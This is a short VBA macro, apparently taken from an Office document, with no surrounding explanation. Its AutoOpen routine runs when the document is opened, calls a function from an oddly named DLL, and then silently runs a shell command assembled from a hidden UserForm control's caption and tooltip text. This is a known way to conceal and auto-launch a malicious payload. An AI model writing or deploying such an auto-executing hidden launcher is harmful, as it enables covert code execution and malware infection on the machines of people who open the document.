Private Declare PtrSafe Function StopHere Lib "harmless-none.dll" () As Long
Sub AutoOpen()
    StopHere
    Shell Panel.Frame1.Caption & Panel.Frame1.ControlTipText, vbHide
End Sub
